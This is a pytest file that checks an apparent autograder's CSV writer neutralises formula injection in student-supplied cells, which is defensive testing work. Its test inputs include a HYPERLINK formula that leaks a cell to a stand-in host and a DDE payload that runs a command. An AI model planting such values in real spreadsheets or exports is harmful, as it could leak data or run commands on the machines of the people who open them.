"""The one CSV writer: no text cell a student controls reaches a spreadsheet as a formula."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest

from autograder.spreadsheet import safe_cell, write_csv


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&A1, "re-grade")', "+1+1", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"])
def test_formula_text_is_written_as_text(tmp_path: Path, text: str) -> None:
    path = write_csv(tmp_path / "t.csv", ["student", "notes"], [["alice", text]])
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["alice", "'" + text]


@pytest.mark.parametrize("value", [-2, -2.5, "-2.5", "+3", "1e-3", "0", "", "alice", "late 2 h", 12.0])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_the_kits_csv_writers_all_use_it() -> None:
    """grades.csv, the Canvas import and the report's tables: no other module writes CSV itself."""
    root = Path(__file__).resolve().parents[1] / "autograder"
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if "csv.writer" in p.read_text(encoding="utf-8") or "DictWriter" in p.read_text(encoding="utf-8"))
    assert writers == ["spreadsheet.py"]
